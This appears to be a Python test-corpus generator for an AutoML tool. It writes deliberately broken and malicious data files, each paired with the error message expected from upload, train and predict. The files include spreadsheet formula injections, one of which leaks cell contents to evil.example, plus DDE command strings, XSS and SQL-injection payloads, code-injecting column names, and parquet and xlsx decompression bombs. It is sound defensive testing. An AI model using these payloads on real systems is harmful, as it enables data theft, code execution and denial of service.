"""Build the hostile-input corpus: broken, odd and malicious tables, each with what should happen.

    python tests/corpus/make_corpus.py OUTDIR     # writes every file, prints one line per case

The files are generated (some are large or expand to gigabytes), never committed. Tests call
:func:`build` into a temporary folder. Each :class:`Case` says, for the studio upload, the CLI
``train`` and the CLI ``predict`` (with a model trained on :func:`base_frame`), either ``OK`` (a
correct run) or words the one-line error message must contain.

The bombs are bombs relative to the memory the reader may use: tests run with
``AUTOML_MEMORY_LIMIT_MB=MEMORY_LIMIT_MB`` so a file expanding to ~1 GB is refused before it expands.
"""
from __future__ import annotations

import io
import json
import sys
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import numpy as np
import pandas as pd

OK = "ok"
MEMORY_LIMIT_MB = 64
TARGET = "y"
N_ROWS = 60


@dataclass(frozen=True)
class Case:
    """One corpus file and the expected outcome of each entry point (``OK`` or words of the message)."""

    name: str
    file: str
    build: Callable[[], bytes]
    upload: str | None = OK      # None: the studio's uploader does not accept the file type at all
    train: str = OK
    predict: str | None = OK     # None: not meaningful for this file (e.g. no model columns)
    target: str = TARGET
    about: str = ""


def base_frame(n: int = N_ROWS, seed: int = 0) -> pd.DataFrame:
    """A small learnable table: ``num`` (float), ``cat`` (a/b/c) -> ``y`` (yes/no)."""
    rng = np.random.default_rng(seed)
    num = rng.normal(size=n).round(4)
    cat = rng.choice(["a", "b", "c"], size=n)
    y = np.where(num + (cat == "a") + rng.normal(scale=0.5, size=n) > 0.3, "yes", "no")
    return pd.DataFrame({"num": num, "cat": cat, TARGET: y})


def _csv(df: pd.DataFrame, **kw) -> bytes:
    return df.to_csv(index=False, **kw).encode("utf-8")


def _with(**columns) -> bytes:
    """The base table with extra / replaced columns, as CSV."""
    df = base_frame()
    for name, values in columns.items():
        df[name] = values
    return _csv(df)


def _formulas() -> bytes:
    df = base_frame()
    risky = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "\t=1+1", "\r=1+1"]
    df["note"] = [risky[i % len(risky)] for i in range(len(df))]
    df["=HYPERLINK(\"http://evil.example\")"] = df["num"] * 2   # a formula as a column name
    df["cat"] = np.where(df.index % 5 == 0, "=HYPERLINK(\"http://evil.example\",\"x\")", df["cat"])
    return _csv(df)


def _names(*names: str) -> bytes:
    df = base_frame()
    for i, name in enumerate(names):
        df[name] = (df["num"] * (i + 2)).round(3)
    return _csv(df)


#: Words scikit-learn or Python give a meaning to (keyword arguments, ColumnTransformer's own names,
#: its "__" parameter separator): a self-employed flag called ``self`` once crashed every run.
RESERVED_NAMES = ("self", "__init__", "remainder", "passthrough", "drop", "transformers", "a__b", "__")
#: Column names that are code in another language: they break out of a docstring, a string literal or a
#: format string if a generator pastes them into source instead of writing them as literals.
CODE_NAMES = ('a""";print("INJECTED");"""', "b\'\'\';print('INJECTED');\'\'\'", "c\\", "{d}__{e}",
              "e\n#", "f\u2028g")


def _reserved(target: str | None = None) -> bytes:
    """Reserved words as text (categorical), numeric and boolean columns; optionally one as the target."""
    df = base_frame()
    rng = np.random.default_rng(4)
    for i, name in enumerate(RESERVED_NAMES):
        if i % 3 == 0:
            df[name] = np.where(df["cat"] == "a", f"lvl{i}", rng.choice(["u", "v", "w"], size=len(df)))
        elif i % 3 == 1:
            df[name] = (df["num"] * (i + 2)).round(3)
        else:
            df[name] = rng.choice(["yes", "no"], size=len(df))
    if target:
        df = df.drop(columns=target).rename(columns={TARGET: target})
    return _csv(df)


def _code_names(target: str | None = None) -> bytes:
    df = base_frame()
    for i, name in enumerate(CODE_NAMES):
        df[name] = np.where(df.index % 3 == i % 3, "p", "q") if i % 2 else (df["num"] * (i + 2)).round(3)
    if target:
        df = df.drop(columns=target).rename(columns={TARGET: target})
    return _csv(df)


def _script_values() -> bytes:
    df = base_frame()
    df["<script>alert('col')</script>"] = np.where(df.index % 2, "<script>alert(1)</script>",
                                                   "<img src=x onerror=alert(2)>")
    df["<b>bold</b>"] = df["num"] * 3
    return _csv(df)


def _wide(n_cols: int, n_rows: int = 40) -> bytes:
    rng = np.random.default_rng(1)
    values = rng.integers(0, 100, size=(n_rows, n_cols))
    header = ",".join(f"c{i}" for i in range(n_cols)) + f",{TARGET}\n"
    y = np.where(values[:, 0] > 50, "yes", "no")
    body = "".join(",".join(map(str, row)) + f",{label}\n" for row, label in zip(values, y))
    return (header + body).encode()


def _huge_header(n_cols: int) -> bytes:
    return (",".join(f"c{i}" for i in range(n_cols)) + "\n" + ",".join("1" for _ in range(n_cols)) + "\n").encode()


def _big_cell(size: int) -> bytes:
    df = base_frame()
    df["text"] = ["short text"] * len(df)
    df.loc[1, "text"] = "x" * size
    return _csv(df)


def _mixed_encodings_late() -> bytes:
    """Valid UTF-8 for the first ~300 KB (past the sniffed sample), then cp1252 bytes."""
    df = base_frame(15000)
    df["city"] = "Zürich"
    head = _csv(df)
    tail = "".join(f"{i / 10},b,{'yes' if i % 2 else 'no'},Montréal\n" for i in range(40)).encode("cp1252")
    return head + tail


def _mixed_encodings_start() -> bytes:
    df = base_frame()
    text = _csv(df.assign(city="plain")).decode()
    lines = text.splitlines(keepends=True)
    out = lines[0].encode()
    for i, line in enumerate(lines[1:]):
        city = "Zürich" if i % 2 else "Montréal"
        out += line.replace("plain", city).encode("utf-8" if i % 2 else "cp1252")
    return out


def _utf16_no_bom() -> bytes:
    return _csv(base_frame().assign(city="Zürich")).decode().encode("utf-16-le")


def _ragged() -> bytes:
    text = _csv(base_frame()).decode().splitlines()
    text[10] += ",extra,fields"
    return ("\n".join(text) + "\n").encode()


def _unclosed_quote() -> bytes:
    return _csv(base_frame()) + b'1.5,"a,yes\n2.5,b,no\n'


def _inf() -> bytes:
    df = base_frame()
    df["num"] = df["num"].astype(object)
    df.loc[[3, 7], "num"] = "inf"
    df.loc[[5], "num"] = "-inf"
    df.loc[[9], "num"] = "Infinity"
    df["big"] = ["1e999" if i % 7 == 0 else str(i) for i in range(len(df))]
    return _csv(df)


def _inf_target() -> bytes:
    df = base_frame()
    df[TARGET] = (df["num"] * 10 + 3).astype(object)
    df.loc[[2, 4], TARGET] = "inf"
    df.loc[[6], TARGET] = "-inf"
    return _csv(df)


def _classes(n_classes: int, per_class: int = 3) -> bytes:
    rng = np.random.default_rng(2)
    labels = np.repeat([f"class_{i:04d}" for i in range(n_classes)], per_class)
    return _csv(pd.DataFrame({"num": rng.normal(size=len(labels)).round(3),
                              "cat": rng.choice(["a", "b"], size=len(labels)), TARGET: labels}))


def _dates_extreme() -> bytes:
    dates = ["0001-01-01", "9999-12-31", "1677-09-21", "2262-04-12", "1200-06-15", "3000-01-01", "1970-01-01",
             "2024-02-29"]
    df = base_frame()
    df["when"] = [dates[i % len(dates)] for i in range(len(df))]
    df["stamp"] = [f"{dates[i % len(dates)]} 12:00:00" for i in range(len(df))]
    return _csv(df)


def _huge_integers() -> bytes:
    df = base_frame()
    df["huge"] = [str(10**25 + i) for i in range(len(df))]
    df["neg_huge"] = [str(-(10**30) - i) for i in range(len(df))]
    return _csv(df)


def _jsonl(records: list[dict]) -> bytes:
    return "".join(json.dumps(r) + "\n" for r in records).encode()


def _records() -> list[dict]:
    return base_frame().to_dict(orient="records")


def _nested_jsonl() -> bytes:
    records = _records()
    for i, r in enumerate(records):
        r["meta"] = {"k": i, "tags": ["x", "y"]} if i % 2 else [i, i + 1]
    return _jsonl(records)


def _mixed_types_jsonl() -> bytes:
    records = _records()
    for i, r in enumerate(records):
        r["mixed"] = i if i % 3 == 0 else (f"s{i}" if i % 3 == 1 else None)
        r["flag"] = bool(i % 2) if i % 4 else "maybe"
    return _jsonl(records)


def _deep_json() -> bytes:
    return b"[" * 200_000 + b"]" * 200_000


def _deep_jsonl() -> bytes:
    return b'{"a": 1, "y": "yes"}\n' + b'{"a": ' + b"[" * 100_000 + b"]" * 100_000 + b', "y": "no"}\n'


def _parquet(df: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    df.to_parquet(buffer, index=False)
    return buffer.getvalue()


def _parquet_bomb() -> bytes:
    """Little on disk per row group, 8 MB in memory: 40 of them expand to 320 MB (5x the test limit)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    chunk = pa.table({"zeros": pa.array(np.zeros(1_000_000, dtype="int64"))})
    buffer = io.BytesIO()
    with pq.ParquetWriter(buffer, chunk.schema, compression="zstd") as writer:
        for _ in range(40):
            writer.write_table(chunk)
    return buffer.getvalue()


def _parquet_odd_types() -> bytes:
    from decimal import Decimal

    df = base_frame()
    df["price"] = [Decimal(f"{i}.25") for i in range(len(df))]
    df["at"] = pd.date_range("2020-01-01", periods=len(df), freq="D", tz="Europe/Paris")
    df["level"] = pd.Categorical(np.where(df.index % 2, "low", "high"))
    df["tags"] = [["a", "b"] if i % 2 else ["c"] for i in range(len(df))]
    df["maybe"] = pd.array([True, None, False] * (len(df) // 3), dtype="boolean")
    return _parquet(df)


def _parquet_duplicate_names() -> bytes:
    import pyarrow as pa
    import pyarrow.parquet as pq

    df = base_frame()
    table = pa.table([pa.array(df["num"]), pa.array(df["num"] * 2), pa.array(df[TARGET])], names=["num", "num", TARGET])
    buffer = io.BytesIO()
    pq.write_table(table, buffer)
    return buffer.getvalue()


def _xlsx(df: pd.DataFrame) -> bytes:
    buffer = io.BytesIO()
    df.to_excel(buffer, index=False)
    return buffer.getvalue()


def _xlsx_bomb() -> bytes:
    """A workbook whose sheet XML is ~100 MB, deflated to a few hundred KB."""
    good = zipfile.ZipFile(io.BytesIO(_xlsx(base_frame(3))))
    out = io.BytesIO()
    row = b'<row><c t="inlineStr"><is><t>' + b"A" * 1000 + b"</t></is></c></row>"
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info in good.infolist():
            if info.filename.endswith("sheet1.xml"):
                with z.open(info.filename, "w", force_zip64=True) as fh:
                    fh.write(b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
                             b'spreadsheetml/2006/main"><sheetData>')
                    block = row * 1000
                    for _ in range(100_000_000 // len(block)):
                        fh.write(block)
                    fh.write(b"</sheetData></worksheet>")
            else:
                z.writestr(info, good.read(info.filename))
    return out.getvalue()


def _xlsx_formulas() -> bytes:
    df = base_frame()
    df["note"] = ['=HYPERLINK("http://evil.example","x")' if i % 3 == 0 else "plain" for i in range(len(df))]
    df["when"] = pd.date_range("1900-01-01", periods=len(df), freq="30D")
    return _xlsx(df)


def _nul_in_sample() -> bytes:
    return _csv(base_frame()).replace(b",a,", b",a\x00\x00,", 3)


def _nul_late() -> bytes:
    big = _csv(base_frame(25000))
    return big + b"0.5,a\x00b,yes\n"


def _duplicate_after_str() -> bytes:
    return b"num,cat,num,y\n" + b"".join(f"{i},a,{i},{'yes' if i % 2 else 'no'}\n".encode() for i in range(30))


def _cr_only() -> bytes:
    return _csv(base_frame()).replace(b"\n", b"\r")


def _quoted_newlines() -> bytes:
    df = base_frame()
    df["comment"] = [f"line one\nline two, with a comma {i}\r\nthird" for i in range(len(df))]
    return _csv(df)


def _control_chars() -> bytes:
    df = base_frame()
    df["ctrl"] = ["bell\x07" if i % 10 == 0 else "ok" for i in range(len(df))]
    return _csv(df)


def _too_big_text() -> bytes:
    """A plain 30 MB CSV: more than the test memory limit allows to read, refused up front."""
    row = ("1.0," * 40 + "yes\n").encode()
    header = (",".join(f"c{i}" for i in range(40)) + f",{TARGET}\n").encode()
    return header + row * (30 * 2**20 // len(row))


def _single_row() -> bytes:
    return _csv(base_frame(1))


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8


CASES: tuple[Case, ...] = (
    Case("empty", "empty.csv", lambda: b"", "empty", "empty", "empty"),
    Case("whitespace_only", "blank.csv", lambda: b"\n  \n\t\n\n", "empty", "empty", "empty"),
    Case("header_only", "header.csv", lambda: b"num,cat,y\n", "no data rows", "no data rows", "no data rows"),
    Case("random_binary", "random.csv", lambda: np.random.default_rng(3).integers(0, 256, 8192, dtype=np.uint8).tobytes(),
         "text table", "text table", "text table"),
    Case("png_renamed", "picture.csv", _png, "png image", "png image", "png image"),
    Case("zip_renamed", "archive.csv", lambda: b"PK\x03\x04" + bytes(300), "zip archive", "zip archive", "zip archive"),
    Case("gzip_upload", "data.csv.gz", lambda: b"\x1f\x8b\x08" + bytes(100), None, "unsupported file type",
         "unsupported file type", about="the studio's uploader refuses the extension itself (its type list)"),
    Case("nul_in_sample", "nul.csv", _nul_in_sample, "binary data", "binary data", "binary data"),
    Case("nul_after_sample", "nul_late.csv", _nul_late, about="a NUL byte past the sniffed sample is kept as text"),
    Case("parquet_bomb", "bomb.parquet", _parquet_bomb, "memory", "memory", "memory"),
    Case("xlsx_bomb", "bomb.xlsx", _xlsx_bomb, "memory", "memory", "memory"),
    Case("too_big_for_memory", "big.csv", _too_big_text, "memory", "memory", "memory"),
    Case("deep_json", "deep.json", _deep_json, "nested too deeply", "nested too deeply", "nested too deeply"),
    Case("deep_jsonl", "deep.jsonl", _deep_jsonl, "nested too deeply", "nested too deeply", "nested too deeply"),
    Case("columns_10000", "wide.csv", lambda: _wide(10_000), predict="the model needs"),
    Case("columns_100000", "too_wide.csv", lambda: _huge_header(100_000), "columns", "columns", "columns"),
    Case("cell_1mb", "bigcell.csv", lambda: _big_cell(2**20)),
    Case("cell_200kb_in_sample", "cell200k.csv", lambda: _big_cell(200_000)),
    Case("mixed_encodings_late", "enc_late.csv", _mixed_encodings_late),
    Case("mixed_encodings_start", "enc_start.csv", _mixed_encodings_start),
    Case("utf16_without_bom", "utf16.csv", _utf16_no_bom),
    Case("ragged_rows", "ragged.csv", _ragged, "ragged rows", "ragged rows", "ragged rows"),
    Case("unclosed_quote", "quote.csv", _unclosed_quote, "could not be read", "could not be read", "could not be read"),
    Case("formulas", "formulas.csv", _formulas),
    Case("xlsx_formulas_and_old_dates", "formulas.xlsx", _xlsx_formulas),
    Case("sql_quote_names", "sql.csv", lambda: _names('"; DROP TABLE experiments; --', "a'b", 'x""y', "Robert'); DROP TABLE trials;--")),
    Case("script_names", "script.csv", _script_values),
    Case("markdown_names", "markdown.csv", lambda: _names("**bold**", "[click](javascript:alert(1))", "$x^2$",
                                                         "![img](http://127.0.0.1:9/x.png)", ":red[colour]", "# heading")),
    Case("newline_names", "newline.csv", lambda: _names("two\nlines", "tab\there", "cr\rname")),
    Case("reserved_names", "reserved.csv", _reserved, about="self, __init__, remainder ... as feature columns"),
    Case("reserved_target", "reserved_target.csv", lambda: _reserved("self"), target="self",
         about="a target called self, next to features called __init__, remainder ..."),
    Case("code_names", "code.csv", _code_names, about="column names that would be code if pasted into source"),
    Case("code_target", "code_target.csv", lambda: _code_names(CODE_NAMES[0]), target=CODE_NAMES[0],
         about="a target whose name closes a docstring"),
    Case("emoji_names", "emoji.csv", lambda: _names("😀 happy", "🚀", "名前", "ümlaut")),
    Case("duplicate_names", "dups.csv", _duplicate_after_str, "duplicate column names", "duplicate column names",
         "duplicate column names"),
    Case("empty_and_long_names", "names.csv", lambda: _names("", " ", "n" * 5000)),
    Case("inf_values", "inf.csv", _inf),
    Case("inf_target", "inf_target.csv", _inf_target, predict=None, about="regression target with inf: rows dropped"),
    Case("all_nan_column", "allnan.csv", lambda: _with(empty=[None] * N_ROWS)),
    Case("all_nan_target", "nan_target.csv", lambda: _with(y=[None] * N_ROWS), train="missing in every row"),
    Case("target_1000_classes", "classes.csv", lambda: _classes(1000), predict=None),
    Case("single_row", "one_row.csv", _single_row, train="only one value"),
    Case("single_column", "one_col.csv", lambda: b"y\n" + b"yes\nno\n" * 20, "only one column", "only one column",
         "the model needs"),
    Case("dates_far_past_and_future", "dates.csv", _dates_extreme),
    Case("huge_integers", "huge_ints.csv", _huge_integers),
    Case("nested_jsonl", "nested.jsonl", _nested_jsonl),
    Case("mixed_types_jsonl", "mixed.jsonl", _mixed_types_jsonl),
    Case("parquet_odd_types", "odd.parquet", _parquet_odd_types),
    Case("parquet_duplicate_names", "dups.parquet", _parquet_duplicate_names, "duplicate column names",
         "duplicate column names", "duplicate column names"),
    Case("cr_only_newlines", "mac.csv", _cr_only),
    Case("quoted_newlines", "multiline.csv", _quoted_newlines),
    Case("control_characters", "ctrl.csv", _control_chars),
    Case("only_delimiters", "commas.csv", lambda: b",,,\n,,,\n,,,\n", "every cell", "every cell", "every cell"),
)


def build(folder: str | Path, names: list[str] | None = None) -> list[tuple[Case, Path]]:
    """Write the corpus (or the named cases) into ``folder``; returns (case, path) pairs."""
    out = Path(folder)
    out.mkdir(parents=True, exist_ok=True)
    chosen = [c for c in CASES if names is None or c.name in names]
    written = []
    for case in chosen:
        path = out / case.name / case.file  # one folder per case: file names may repeat
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(case.build())
        written.append((case, path))
    return written


if __name__ == "__main__":
    if len(sys.argv) != 2:
        sys.exit("usage: python tests/corpus/make_corpus.py OUTDIR")
    for case, path in build(sys.argv[1]):
        print(f"{case.name:32} {path.stat().st_size:>12,} bytes  upload={case.upload!r} train={case.train!r}")
